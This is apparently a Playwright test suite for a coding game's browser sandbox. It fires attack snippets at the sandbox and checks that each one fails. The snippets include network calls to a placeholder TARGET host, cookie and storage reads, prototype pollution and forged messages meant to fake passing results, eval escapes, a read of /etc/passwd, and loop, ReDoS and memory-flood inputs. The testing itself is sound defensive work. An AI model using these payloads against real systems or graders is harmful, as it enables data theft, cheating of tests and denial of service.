/**
 * Attacks on the sandbox in a real browser, each shown to fail: by the door a player uses (the editor of a code
 * level), and once more inside the bare frame, without the language's own locks, where only the content policy and
 * the opaque origin stand.
 */
import { createServer, type Server } from 'node:http'
import type { Page, Worker } from '@playwright/test'
import { framePage } from '../../src/sandbox/frame.ts'
import { listening } from './listening.ts'
import { button, contest, openLab, solution, writeProgram } from './player.ts'
import { expect, test } from './test.ts'

const id = '1-5-lantern-robot'

let server: Server
let target = ''
let visits: string[] = []

test.beforeAll(async () => {
  server = createServer((request, response) => {
    visits.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
    response.end('postMessage("loaded")')
  })
  server.on('upgrade', (request, socket) => {
    visits.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  target = `127.0.0.1:${await listening(server, '127.0.0.1')}`
})
test.afterAll(() => void server.close())
test.beforeEach(() => {
  visits = []
})

async function attempt(page: Page, language: 'Python' | 'JavaScript', source: string): Promise<void> {
  await writeProgram(page, language, source)
  await button(page, /^Try (it|again)$/).click()
  await expect(button(page, 'Try again')).toBeVisible({ timeout: 60_000 })
}

const passed = (page: Page) => page.locator('.code-case[data-passed="true"]')

const javascript: Readonly<Record<string, string>> = {
  fetch: 'fetch("http://TARGET/fetch")',
  XHR: 'const x = new XMLHttpRequest()\nx.open("GET", "http://TARGET/xhr")\nx.send()',
  WebSocket: 'new WebSocket("ws://TARGET/socket")',
  WebRTC: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:TARGET" }] })',
  beacon: 'navigator.sendBeacon("http://TARGET/beacon")',
  'an image': 'new Image().src = "http://TARGET/image"',
  'import of an address': 'import("http://TARGET/import")',
  importScripts: 'importScripts("http://TARGET/scripts")',
  'a nested worker': 'new Worker("data:text/javascript,fetch(1)")',
  IndexedDB: 'indexedDB.open("stolen")',
  caches: 'caches.open("stolen")',
  cookies: 'print(document.cookie)',
  storage: 'localStorage.setItem("stolen", "1")',
  'the page above': 'parent.document.body.remove()',
  'the top page': 'top.location = "http://TARGET/top"',
  'a forged message':
    'postMessage({ type: "end", index: 0, run: { calls: [], value: 1, printed: "", steps: 1, lines: [] } })',
  'a forged message by the worker’s own event':
    'self.onmessage = () => 1\ndispatchEvent(new MessageEvent("message"))',
  'pollution of Object.prototype': 'Object.prototype.passed = true\nObject.prototype.code = "arrived"',
  'pollution of Array.prototype': 'Array.prototype.includes = () => true',
  'pollution through __proto__': '({}).__proto__.passed = true',
  'a monkey-patched JSON': 'JSON.stringify = () => "{\\"passed\\":true}"',
  'a monkey-patched Map': 'Map.prototype.get = function () { return 1 }',
  'a setter on Array.prototype that reads what the world keeps':
    'Object.defineProperty(Array.prototype, 0, { set(value) { print(value) } })',
  'code from text': '(() => {}).constructor("return this")()',
  'code from text by a generator': '(function* () {}).constructor("return this")()',
  'direct eval': 'eval("1")',
  'the hidden cases': 'print(cases, job, input, walk, simulation)',
  'the counter’s own name': '$nhStep = () => 1',
  'an API function replaced': 'atLantern.call = 1\nmodel.predict = () => "arrived"',
  'a stack trace that leaks functions':
    'Error.prepareStackTrace = (_, sites) => sites[0].getFunction()\nnew Error().stack.call()',
  'the clock, to tell that it is judged': 'if (Date.now() > 0) while (!atLantern()) forward()',
}

const python: Readonly<Record<string, string>> = {
  'import js': 'import js\njs.fetch("http://TARGET/js")',
  'import jsffi': 'from jsffi import create_proxy',
  __import__: '__import__("js").fetch("http://TARGET/js")',
  'the counter’s module': 'import nh__counter\nnh__counter.constructor("return this")',
  'an import from text': 'exec("import js")',
  'the globals of a function': 'print(forward.__globals__)',
  'the globals, by a name put together': 'print(getattr(forward, "__glo" + "bals__"))',
  'the builtins': 'import builtins\nbuiltins.print = 1',
  'open a file': 'open("/etc/passwd")',
  'a forged message to the recorder': 'print("\\x01r[1]\\n\\x01n1")',
}

for (const [language, attacks] of [
  ['JavaScript', javascript],
  ['Python', python],
] as const)
  test(`no attack in ${language} reaches anything or passes a case`, async ({ page }) => {
    test.setTimeout(600_000)
    const outside: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!/^(blob|data):/.test(url) && !url.startsWith('http://localhost')) outside.push(url)
    })
    await page.emulateMedia({ reducedMotion: 'reduce' })
    await openLab(page, id)
    for (const [name, source] of Object.entries(attacks)) {
      const text = source.replaceAll('TARGET', target)
      await attempt(page, language, text)
      await expect(passed(page), name).toHaveCount(0)
      await expect(page.locator('.cm-content'), `${name}: the draft survives`).toContainText(
        text.split('\n')[0]?.slice(0, 20) ?? '',
      )
    }
    expect(outside).toEqual([])
    expect(visits).toEqual([])
    expect(await page.evaluate(() => Reflect.has({}, 'passed') || localStorage.getItem('stolen'))).toBeFalsy()
    expect(await contest(page)).toBe(0)
  })

test('what never ends is ended, the page stays responsive, and an honest program passes right after', async ({
  page,
}) => {
  test.setTimeout(480_000)
  await page.emulateMedia({ reducedMotion: 'reduce' })
  await openLab(page, id)
  await attempt(page, 'JavaScript', 'forward()')
  const session = await page.context().newCDPSession(page)
  for (const [language, source, says] of [
    ['JavaScript', 'while (true);', /20,000 steps/],
    ['JavaScript', 'for (;;) { try { for (;;); } catch {} }', /20,000 steps/],
    ['JavaScript', 'function f() { return f() }\nf()', /calls itself/],
    ['JavaScript', '/^(a+)+$/.test("a".repeat(40) + "b")', /so much work at once/i],
    ['JavaScript', '[].sort.call({ length: 2 ** 32 })', /so much work at once/i],
    ['JavaScript', '[].includes.call({ length: 2 ** 53 - 1 }, 1)', /so much work at once/i],
    ['JavaScript', 'const a = []\nwhile (true) a.push(new Array(1e6).fill(1))', /memory/],
    ['JavaScript', 'let a = [1]\nwhile (true) a = [...a, ...a]', /memory/],
    ['JavaScript', 'let s = "x"\nwhile (true) s += s', /memory/],
    ['JavaScript', 'while (true) print("flood flood flood")', /6,000 characters/],
    ['Python', 'while True:\n    pass', /20,000 steps/],
    ['Python', 'while True:\n    try:\n        x = 1\n    except:\n        pass', /20,000 steps/],
    ['Python', 'def g():\n    while True:\n        yield 1\nx = [y for y in g()]', /20,000 steps/],
    ['Python', 'def f():\n    return f()\nf()', /calls itself/],
    ['Python', 'import re\nre.match("(a+)+$", "a" * 60 + "b")', /so much work at once/i],
    ['Python', 'x = 10 ** 10000000', /so much work at once/i],
    ['Python', 'a = []\nwhile True:\n    a.append([0] * 100000)', /memory|so much work at once/i],
    ['Python', 'while True:\n    print("flood flood flood")', /6,000 characters/],
  ] as const) {
    await writeProgram(page, language, source)
    await session.send('Emulation.setCPUThrottlingRate', { rate: 4 })
    await page.evaluate(() => {
      const watch = window as unknown as { ticks: number; stop: boolean }
      watch.ticks = 0
      watch.stop = false
      const tick = () => {
        watch.ticks++
        if (!watch.stop) setTimeout(tick, 10)
      }
      tick()
    })
    const begun = Date.now()
    await button(page, /^Try (it|again)$/).click()
    // The note that the program has changed goes when the new try is there.
    await expect(page.getByText('The program has changed since this try.')).toHaveCount(0, {
      timeout: 20_000,
    })
    await expect(page.locator('.code-mistake')).toContainText(says, { timeout: 20_000 })
    const took = Date.now() - begun
    await session.send('Emulation.setCPUThrottlingRate', { rate: 1 })
    const ticks = await page.evaluate(() => {
      const watch = window as unknown as { ticks: number; stop: boolean }
      watch.stop = true
      return watch.ticks
    })
    test
      .info()
      .annotations.push({ type: 'stopped', description: `${language} ${source}: ${took} ms, ${ticks} ticks` })
    expect(ticks, `${source}: turns the page took meanwhile`).toBeGreaterThan(5)
    await expect(passed(page)).toHaveCount(0)
    await expect(page.locator('.cm-content')).toContainText(source.split('\n')[0] ?? '')
  }
  const expert = solution(id, 'expert-python').recipe as { python: string }
  await attempt(page, 'Python', expert.python)
  await expect(passed(page)).toHaveCount(3)
})

test('the frame alone, without the language’s locks, lets nothing out either', async ({ page }) => {
  await page.goto('./')
  const attacks = `
    const tries = {
      fetch: () => fetch('http://${target}/fetch').then(() => 'reached'),
      xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes('reached'); x.onerror = () => no(new Error('blocked')); x.open('GET', 'http://${target}/xhr'); x.send() }),
      socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://${target}/socket'); s.onopen = () => yes('reached'); s.onerror = () => no(new Error('blocked')) }),
      events: () => new Promise((yes, no) => { const s = new EventSource('http://${target}/events'); s.onopen = () => yes('reached'); s.onerror = () => { s.close(); no(new Error('blocked')) } }),
      scripts: () => { importScripts('http://${target}/scripts'); return 'reached' },
      module: () => import('http://${target}/module').then(() => 'reached'),
      beacon: () => navigator.sendBeacon('http://${target}/beacon') ? 'reached' : 'refused',
      rtc: () => { new RTCPeerConnection(); return 'reached' },
      eval: () => eval('"reached"'),
      text: () => Function('return "reached"')(),
      nested: () => new Promise((yes, no) => { const w = new Worker('http://${target}/nested'); w.onmessage = () => yes('reached'); w.onerror = () => no(new Error('blocked')) }),
      nestedFetch: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("http://${target}/inner").then(() => postMessage("reached"), () => postMessage("blocked"))']))); w.onmessage = (e) => e.data === 'reached' ? yes('reached') : no(new Error('blocked')); w.onerror = () => no(new Error('blocked')) }),
      database: () => new Promise((yes, no) => { const r = indexedDB.open('stolen'); r.onsuccess = () => yes('reached'); r.onerror = () => no(new Error('blocked')) }),
      caches: () => caches.open('stolen').then(() => 'reached'),
      dom: () => document.title && 'reached',
      above: () => parent.location.href && 'reached',
    }
    onmessage = async ({ ports: [port] }) => {
      const results = {}
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          results[name] = String(await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 1500))]))
        } catch (error) {
          results[name] = 'stopped'
        }
      }
      port.postMessage(results)
    }
    postMessage('ready')`
  const results = await page.evaluate(
    async ([srcdoc, script]) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts')
      frame.srcdoc = srcdoc ?? ''
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      const { port1, port2 } = new MessageChannel()
      const said = (type: string) =>
        new Promise<void>((resolve) => {
          port1.addEventListener('message', ({ data }) => data.type === type && resolve())
        })
      port1.start()
      const open = said('open')
      frame.contentWindow?.postMessage(script, '*', [port2])
      await open
      const ready = said('ready')
      port1.postMessage({ type: 'start', id: 1 })
      await ready
      const back = new MessageChannel()
      const told = new Promise<Record<string, string>>((resolve) => {
        back.port1.onmessage = ({ data }) => resolve(data)
      })
      port1.postMessage({ type: 'job', id: 1, job: {} }, [back.port2])
      return told
    },
    [framePage, attacks],
  )
  const reached = Object.entries(results).filter(([, result]) => result === 'reached')
  expect(reached).toEqual([])
  expect(visits).toEqual([])
})

test('JavaScript is tried out before the first program, in a worker that is gone by then', async ({
  page,
}) => {
  const begun: Worker[] = []
  const gone: Worker[] = []
  page.on('worker', (worker) => {
    if (!worker.url().startsWith('blob:')) return
    begun.push(worker)
    worker.on('close', () => gone.push(worker))
  })
  await openLab(page, id)
  await writeProgram(page, 'JavaScript', 'print(1 + 1)')
  await expect.poll(() => gone.length, { timeout: 30_000 }).toBe(1)
  // A worker that ran one thing never runs another: what is left has run nothing.
  expect(begun.length).toBeGreaterThan(1)
  await button(page, /^Try it$/).click()
  await expect(button(page, 'Try again')).toBeVisible({ timeout: 60_000 })
})
